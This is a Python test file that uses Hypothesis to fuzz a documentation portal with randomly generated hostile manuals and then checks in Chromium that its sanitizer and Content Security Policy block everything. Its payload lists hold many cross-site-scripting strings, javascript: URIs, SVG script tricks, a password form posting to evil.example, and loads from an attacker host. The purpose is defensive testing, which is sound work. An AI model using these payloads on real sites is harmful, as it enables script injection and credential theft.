"""Random manuals that attack, as Chromium shows them: Markdown, raw HTML, attribute lists, SVG, settings of mkdocs.yml.

One portal is built of all examples, and every page of it is opened under the portal's own policy. Nothing may be
refused by that policy (what is refused was published), no dialog may open, and nobody but the host may be asked.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Iterable, Mapping
from contextlib import suppress
from html import escape
from pathlib import Path
from typing import Any

import pytest
from browser_kit import hosted
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, BrowserContext, Dialog, Page
from playwright.sync_api import Error as BrowserError

from callboard import sanitize
from callboard.docs import confine, gate
from callboard.model import routes
from portals import Site, build_site, component, group, organisation

pytestmark = pytest.mark.skipif(not confine.BASE <= confine.available(), reason="this machine cannot confine the worker")

MANUALS = int(os.environ.get("CALLBOARD_HOSTILE_MANUALS", "36"))
"""With HYPOTHESIS_PROFILE=search and a large number here, new attacks are looked for."""
PAGES = 4

EVIL = "https://evil.example"
SCRIPTS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "&#x01;javascript:alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "blob:x", "file:///etc/passwd", "filesystem:x", "view-source:x",
)  # fmt: skip
ELSEWHERE = (f"{EVIL}/x", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "http://127.0.0.1:9/x", "ftp://evil.example/", "intent://x#Intent;end")
HERE = ("mailto:a@b.example", "#top", "other.md", "e.svg", "../../../../x", "?q=<script>", "cb:entity/x", "%00", "", "data:image/png;base64,AA==", "p1.md")
STYLES = (f"background:url({EVIL}/x.png)", "position:fixed;inset:0", f"@import '{EVIL}/x.css'", "color:red")
ANY = (*SCRIPTS, *ELSEWHERE, *HERE, *STYLES, "alert(1)", "cb-search", "cb-main", "x", "<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>")
HANDLERS = "onclick onload onerror onmouseover onfocus ontoggle onanimationstart onbegin onpointerenter onscroll".split()
LOADING = "src href xlink:href poster background data lowsrc dynsrc action formaction cite ping manifest code archive longdesc".split()
OTHERS = (
    "id class name title is slot part popover contenteditable accesskey tabindex autofocus role aria-label lang dir width height"
    " fill filter mask clip-path stroke begin attributeName to values from data-lang data-engine data-tabs data-pagefind-body data-copied"
    " nonce integrity loading rel target download type checked for headers usemap color http-equiv content codebase srcset"
).split()
STRANGE = sorted(
    sanitize.EMPTIED
    | set(
        "animate set foreignObject image feImage a:script html:script body html portal fencedframe marquee bgsound keygen isindex layer"
        " ilayer dialog menu slot canvas map area cb-search annotation-xml maction mglyph mtext desc x-y".split()
    )
)
WHOLE = (
    "<script>alert(1)</script>", f"<script src={EVIL}/x.js></script>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", f"<iframe src={EVIL}/></iframe>", f"<object data={EVIL}/x></object>", f"<embed src={EVIL}/x>",
    f"<base href={EVIL}/>", f"<base target=x href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}/'>", f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>", "<style>*{display:none}</style>", f"<style>@import '{EVIL}/x.css'</style>",
    f"<form action={EVIL}/><input name=password><button>go</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>", "<img src=x onerror=alert(1)>", f"<img srcset='{EVIL}/x 1x'>",
    f"<picture><source srcset={EVIL}/x><img src=e.svg></picture>", f"<video poster={EVIL}/x><source src={EVIL}/y></video>", f"<audio src={EVIL}/x autoplay></audio>",
    f"<svg><image href={EVIL}/x /></svg>", f"<svg><use href='{EVIL}/x#a'/></svg>", f"<svg><rect fill='url({EVIL}/x#a)'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>", "<!--><img src=x onerror=alert(1)>-->",
    "<p style='position:fixed;inset:0' onmouseover=alert(1)>x</p>", "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<input autofocus onfocus=alert(1)>", "<input type=image src=https://evil.example/x>", "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
    "<cb-palette></cb-palette>", "<div id=cb-palette class='cb-dialog' hidden popover>x</div>", "<a id=document name=body href=x>x</a>", "<img name=cookie id=currentScript src=e.svg>",
)  # fmt: skip

_words = st.one_of(st.sampled_from(["word", "alert(1)", "]]>", "-->", "{{ x }}", "{% x %}", "${x}", "__proto__", "constructor", "\u202ex", "&lt;script&gt;"]), st.text(max_size=12))
_attribute = st.one_of(
    st.tuples(st.sampled_from(HANDLERS), st.just("alert(1)")),
    st.tuples(st.just("style"), st.sampled_from(STYLES)),
    st.tuples(st.sampled_from(LOADING), st.sampled_from([*SCRIPTS, *ELSEWHERE])),
    st.tuples(st.sampled_from(["href", "src"]), st.sampled_from([*SCRIPTS, *ELSEWHERE, *HERE])),
    st.tuples(st.sampled_from([*HANDLERS, *LOADING, *OTHERS]), st.sampled_from(ANY)),
)
_attributes = st.lists(_attribute, min_size=1, max_size=4)
_tags = st.one_of(st.sampled_from(["a", "img", "p", "div", "span", "svg", "pre", "td", "rect", "use", "input", "details"]), st.sampled_from(sorted(sanitize.TAGS)), st.sampled_from(STRANGE))


def _tag(name: str, attributes: list[tuple[str, str]], inside: str, closed: bool, quote: str) -> str:
    written = "".join(f" {key}={quote}{value}{quote}" for key, value in attributes)
    return f"<{name}{written}>{inside}" + (f"</{name}>" if closed else "")


def _attribute_list(attributes: list[tuple[str, str]], words: str) -> str:
    written = " ".join(f"{key}='{value}'" for key, value in attributes)
    return f"{words}{{: {written} }}"


def _as_xml(attributes: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(name, escape(value.replace("\t", "&#9;"), quote=True).replace("&amp;#", "&#")) for name, value in attributes if ":" not in name or name == "xlink:href"]


_html = st.recursive(
    st.one_of(st.sampled_from(WHOLE), _words),
    lambda inner: st.builds(_tag, _tags, _attributes, st.lists(inner, min_size=1, max_size=3).map("".join), st.sampled_from([True, True, True, True, False]), st.sampled_from(["'", '"', ""])),
    max_leaves=6,
)
_address = st.one_of(st.sampled_from(SCRIPTS), st.sampled_from(ELSEWHERE), st.sampled_from(HERE))
_inline = st.one_of(
    _words,
    _html,
    st.builds("[{}]({} '{}')".format, _words, _address, _words),
    st.builds("![{}]({})".format, _words, _address),
    st.builds("<{}>".format, _address),
    st.builds("[{0}][r]\n\n[r]: {1} \"{0}\"".format, _words, _address),
    st.builds(_attribute_list, _attributes, st.sampled_from(["**b**", "[l](x)", "`c`", "![i](e.svg)"])),
    st.sampled_from([":smile:", "$x<y$", "\\(a\\)", "++ctrl+alt++", "{++add++}", "[^1]\n\n[^1]: <script>alert(1)</script>", "*[HTML]: \"><img onerror=alert(1)>\n\nHTML"]),
)
_block = st.one_of(
    st.lists(_inline, min_size=1, max_size=4).map(" ".join),
    st.builds("{} {} {}".format, st.sampled_from(["#", "##", "######"]), _inline, st.sampled_from(["", "{#cb-search}", "{: onclick=alert(1) #x }"])),
    st.builds("```{} {}\n{}\n```".format, st.sampled_from(["html", "mermaid", "plantuml", "graphviz dot a.svg", "{.python onclick=x}", "js title=\"<b>\" hl_lines=1", ""]), st.sampled_from(["", "linenums=1"]), _html),
    st.builds("{{% dot a.svg\ndigraph {{ a [URL=\"{}\" label=<<b>x</b>> tooltip=\"{}\"] a -> b }}\n%}}".format, _address, _words.map(lambda w: w.replace('"', ""))),
    st.builds("!!! {} \"{}\"\n    {}".format, st.sampled_from(["note", "x' onclick='alert(1)", "danger"]), _words, _inline),
    st.builds("??? {}\n    {}".format, st.sampled_from(["note", "warning"]), _html),
    st.builds("=== \"{}\"\n    {}".format, _words, _inline),
    st.builds("| {} | b |\n|---|---|\n| {} | c |".format, _inline, _inline),
    st.builds("- [x] {}\n- {}\n".format, _inline, _inline),
    st.builds("$$\n{}\n$$".format, _words),
    st.builds("--8<-- \"{}\"".format, _address),
    st.builds("<div markdown='1' {}>\n{}\n</div>".format, _attributes.map(lambda pairs: " ".join(f'{k}="{v}"' for k, v in pairs)), _inline),
)  # fmt: skip
_page = st.tuples(st.sampled_from(["", "---\ntitle: <script>alert(1)</script>\ndescription: '\"><img onerror=alert(1)>'\n---\n", "---\ntitle: \"a\\uD800\"\n---\n"]),
                  st.lists(_block, min_size=5, max_size=12), st.lists(st.sampled_from(WHOLE), min_size=2, max_size=4)).map(lambda parts: parts[0] + "\n\n".join([*parts[1], *parts[2]]) + "\n")  # fmt: skip

_plain = st.one_of(st.booleans(), st.sampled_from(ANY), st.integers(-5, 5), st.none())
_extension = st.sampled_from([*gate.EXTENSIONS, "evil:Extension", "os", "pymdownx.b64", "markdown_include.include"])
_options = st.dictionaries(
    st.sampled_from(sorted({option for table in gate.EXTENSIONS.values() for option in table} | {"base_path", "url_download", "plantuml_cmd"})),
    _plain,
    max_size=2,
)
_settings = st.fixed_dictionaries(
    {},
    optional={
        "site_name": st.one_of(_words, st.sampled_from(ANY)),
        "site_url": _address,
        "repo_url": _address,
        "edit_uri_template": _address,
        "copyright": _html,
        "hooks": st.just(["h.py"]),
        "theme": st.just({"name": "material", "custom_dir": "docs"}),
        "extra_css": st.lists(_address, max_size=2),
        "extra_javascript": st.lists(_address, max_size=2),
        "extra": st.dictionaries(st.sampled_from(["analytics", "social", "homepage"]), _plain, max_size=2),
        "use_directory_urls": st.booleans(),
        "exclude_docs": st.sampled_from(["!.env", "p1.md", "*", "["]),
        "nav": st.lists(st.one_of(_address, st.builds(lambda title, target: {title or "t": target}, _words, _address)), max_size=4).map(lambda items: ["index.md", *items]),
        "markdown_extensions": st.one_of(st.lists(_extension, max_size=3), st.dictionaries(_extension, _options, max_size=3), st.lists(st.dictionaries(_extension, _options, min_size=1, max_size=1), max_size=3)),
        "plugins": st.lists(st.sampled_from(["techdocs-core", "search", "exec", "macros", "privacy", {"redirects": {"redirect_maps": {"old.md": f"{EVIL}/", "a.md": "index.md"}}}]), max_size=3),
    },
)  # fmt: skip
_drawn = st.recursive(
    st.sampled_from(
        [
            "<script>alert(1)</script>", "<style>@import 'https://evil.example/x.css'</style>", "<style>*{fill:url(https://evil.example/x)}</style>", "words",
            '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
            '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>', '<set attributeName="onmouseover" to="alert(1)"/>',
            f'<image href="{EVIL}/x.png" width="9" height="9"/>', '<animate attributeName="href" values="javascript:alert(1)"/>',
        ]
    ),
    lambda inner: st.builds(_tag, st.sampled_from("g rect a use image text path filter feImage mask animate style".split()),
                            st.lists(_attribute, min_size=1, max_size=4, unique_by=lambda pair: pair[0]).map(_as_xml), st.lists(inner, min_size=1, max_size=3).map("".join), st.just(True), st.just('"')),
    max_leaves=6,
)  # fmt: skip
_svg = st.lists(_drawn, min_size=1, max_size=4).map(
    lambda parts: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)"><rect width="9" height="9"/>'
    + "".join(parts)
    + "</svg>"
)
_manual = st.tuples(_settings, st.lists(_page, min_size=PAGES, max_size=PAGES), _svg)


def random_manuals(count: int) -> list[tuple[dict[str, Any], list[str], str]]:
    """That many examples; the same ones in every run, as for every test with random cases."""
    found: list[tuple[dict[str, Any], list[str], str]] = []

    @settings(max_examples=count, phases=[Phase.generate], database=None, suppress_health_check=list(HealthCheck))
    @given(_manual)
    def collect(example: tuple[dict[str, Any], list[str], str]) -> None:
        found.append(example)

    collect()
    return found[:count]


def repositories(manuals: list[tuple[dict[str, Any], list[str], str]]) -> Mapping[str, str]:
    """A repository for each manual, and the team that owns them all."""
    files = {"crew/catalog-info.yaml": group()}
    for number, (written, pages, svg) in enumerate(manuals):
        name = f"m{number}"
        files[f"{name}/catalog-info.yaml"] = component(name, metadata="  annotations:\n    backstage.io/techdocs-ref: dir:.\n")
        files[f"{name}/mkdocs.yml"] = json.dumps(written)
        files[f"{name}/docs/e.svg"] = svg
        for n, text in enumerate(pages):
            one_of_all = WHOLE[(number * PAGES + n) % len(WHOLE)]
            files[f"{name}/docs/{'index' if n == 0 else f'p{n}'}.md"] = f"![picture](e.svg)\n\n{one_of_all}\n\n{text}\n\n![picture](e.svg)\n"
    return {path: text.encode("utf-8", "replace").decode() for path, text in files.items()}


WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
TOUCH = """
async () => {
  document.addEventListener("click", (event) => event.preventDefault(), true);
  const seen = [...document.querySelectorAll("main *, nav *")].slice(0, 400);
  const found = [];
  for (const element of seen) {
    for (const name of ["href", "src", "action", "formaction", "data", "poster", "xlink:href"]) {
      const value = element.getAttribute(name);
      if (value === null) continue;
      const scheme = URL.canParse(value, document.baseURI) ? new URL(value, document.baseURI).protocol : "none:";
      const shown = name === "href" ? ["http:", "https:", "mailto:", location.protocol] : ["data:", location.protocol];
      if (!shown.includes(scheme)) found.push(`address ${element.tagName} ${name} ${value}`);
    }
    for (const name of ["mouseover", "focus", "animationstart", "error", "load", "click", "toggle", "pointerenter"]) {
      element.dispatchEvent(new Event(name, {bubbles: true, cancelable: true}));
    }
  }
  for (const element of document.querySelectorAll(".prose *")) {
    if (element.id.startsWith("cb-") || element.tagName.includes("-")) found.push(`taken from the shell ${element.tagName} ${element.id}`);
  }
  // What loads late, such as films, and what is told of later than it happened: a moment, and all that waited for one.
  await new Promise((done) => setTimeout(done, 40));
  await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
  return [...window.refused.map((text) => `refused ${text}`), ...found];
}
"""
"""Every element is touched in each way that a handler could wait for; every address is looked at as the browser sees it."""


class Incidents:
    """What happened in a context that must not: dialogs, requests to others, words of the policy, windows, downloads."""

    def __init__(self, context: BrowserContext, origin: str) -> None:
        self.found: list[str] = []
        self.page = ""
        context.on("request", lambda request: request.url.startswith((f"{origin}/", "data:", "blob:", "about:")) or self.add(f"request to {request.url}"))
        context.on("console", lambda message: "Content Security Policy" in message.text and self.add(message.text))
        context.on("dialog", self.dialog)
        context.on("weberror", lambda error: self.add(f"error {error.error}"))

    def dialog(self, dialog: Dialog) -> None:
        self.add(f"dialog {dialog.message}")
        with suppress(BrowserError):  # its page may be gone
            dialog.dismiss()

    def add(self, what: str) -> None:
        self.found.append(f"{self.page}: {what}")


def visited(browser: Browser, folder: Path, addresses: Iterable[str]) -> list[str]:
    """What happened that must not, while every one of *addresses* of the site in *folder* was opened and touched."""
    with hosted(folder) as host:
        context = browser.new_context(reduced_motion="reduce")
        context.add_init_script(WATCH)
        context.set_default_timeout(10_000)
        incidents = Incidents(context, host.origin)
        page: Page | None = None
        for address in addresses:
            incidents.page = address
            if page is None:
                page = context.new_page()
                page.on("popup", lambda popup: incidents.add(f"window {popup.url}"))
                page.on("download", lambda download: incidents.add(f"download of {download.url}"))
            if not look(page, f"{host.url}{address}", incidents.add):
                page.close()  # what is still on its way elsewhere would stop the next
                page = None
        context.close()
    return incidents.found


def look(page: Page, url: str, add: Callable[[str], None]) -> bool:
    """Open and touch *url*; whether it stayed where it was."""
    try:
        page.goto(url, wait_until="load")
        for what in page.evaluate(TOUCH):
            add(what)
    except BrowserError as error:
        add(f"left the page: {error}")
        return False
    if page.url.split("#")[0] != url:
        add(f"went to {page.url}")
        return False
    return True


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The portal of all random manuals."""
    folder = tmp_path_factory.mktemp("hostile")
    return build_site(organisation(folder, repositories(random_manuals(MANUALS))), folder / "site")


def test_no_random_manual_runs_reaches_out_or_meets_the_policy(browser, attacked):
    """Tried: fails with <script> in sanitize.TAGS, with handlers in its attributes, without routes.safe_url, with what
    adopt takes out let through (styles, pictures from elsewhere, ids of the shell, what drawings refer to), and without
    the cleaning of SVG files."""
    manuals = attacked.built.portal.manuals.by_entity
    pages = [routes.manual(ref, page.path) for ref, manual in manuals.items() for page in manual.pages]
    pictures = [routes.manual(ref, asset.path) for ref, manual in manuals.items() for asset in manual.assets if asset.path.endswith(".svg")]

    assert visited(browser, attacked.folder, [*pages, *pictures, "search/?query=alert", "docs/", "health/"]) == []
    assert len(pages) > MANUALS * PAGES * 0.6 and len(pictures) > MANUALS * 0.3


TEETH = {
    "a dialog": r"dialog 1",
    "a script": r"Executing inline script",
    "a script from elsewhere": r"Loading the script",
    "a handler": r"Executing inline event handler",
    "a style sheet": r"refused style-src-elem inline",
    "a style sheet from elsewhere": r"Loading the stylesheet",
    "a style": r"Applying inline style",
    "a picture from elsewhere": r"Loading the image 'https",
    "sound or film": r"Loading media",
    "a plugin": r"Loading plugin data",
    "a frame": r"Framing '",
    "a base": r"Setting the document's base URI",
    "a scheme": r"address A href (?:j|v|data|file|blob)",
    "another page": r"went to|left the page",
    "a part of the shell": r"taken from the shell",
}
"""What a browser says of each danger."""


def test_each_danger_is_seen_where_it_is_let_through(browser, attacked, tmp_path):
    """So that silence above means something: every text of WHOLE, and an SVG with a script, below the same policy.
    One danger a page, since the first of a page may leave it before the next is reached."""
    policy = attacked.text("404.html").partition('Content-Security-Policy" content="')[2].partition('"')[0]
    for number, dangerous in enumerate(WHOLE):
        page = f'<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{policy}"><main class="prose">{dangerous}</main>'
        (tmp_path / f"{number}.html").write_text(page, "utf-8")
    (tmp_path / "drawing.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    (tmp_path / "404.html").write_text("nothing")

    pages = sorted({path.name for path in tmp_path.iterdir()} - {"404.html"})
    found: list[str] = []
    unseen = set(TEETH)
    for _ in range(3):  # a browser that is short of time may be done with a page before it tells of it
        found += visited(browser, tmp_path, pages) if unseen else []
        unseen = {name for name in unseen if not any(re.search(TEETH[name], line) for line in found)}

    assert unseen == set()


def test_the_random_manuals_are_dangerous_before_they_are_cleaned(attacked):
    """What the worker wrote holds every element that the texts of WHOLE begin with."""
    records = [
        json.loads(line) for file in sorted(attacked.folder.with_name("site.state").rglob("records.jsonl")) for line in file.read_text().splitlines()
    ]
    written = "".join(record.get("html", "") for record in records)

    assert {opening for text in WHOLE for opening in re.findall(r"^<[a-z-]+", text) if opening not in written} == set()
